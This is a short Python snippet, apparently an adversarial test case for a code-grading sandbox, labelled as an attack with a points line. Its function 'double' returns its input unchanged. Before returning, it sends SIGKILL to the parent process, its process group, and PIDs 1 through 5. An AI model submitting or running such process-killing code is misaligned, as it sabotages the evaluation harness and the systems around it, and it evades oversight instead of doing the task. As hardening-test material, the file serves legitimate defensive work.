# attack: ends its parent, its group and its session
# points: double=0 total=4
# %% double
import os, signal
def double(x):
    for target in {os.getppid(), 1, 2, 3, 4, 5}:
        for kill in (os.kill, os.killpg):
            try:
                kill(target, signal.SIGKILL)
            except OSError:
                pass
    return x
